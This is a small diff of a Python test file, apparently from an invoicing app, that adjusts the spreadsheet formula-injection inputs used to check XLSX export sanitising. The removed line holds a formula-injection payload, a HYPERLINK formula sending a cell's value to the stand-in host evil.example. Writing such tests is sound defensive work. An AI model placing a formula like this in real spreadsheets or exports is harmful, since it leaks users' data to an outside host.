@@ -299,7 +299,8 @@ def test_xlsx_export_has_typed_cells(supplier, buyer, buyer_user):
     assert first["Téléchargée par le destinataire"] == "non"
 
 
-FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1;"clic")', "+1+2", "-3+4", "@SUM(A1)")
+# Within an invoice number's maximum length (PostgreSQL enforces it; SQLite does not).
+FORMULAS = ('=HYPERLINK("//x.io")', "+1+2", "-3+4", "@SUM(A1)")
 
 
 @pytest.mark.parametrize("number", FORMULAS)
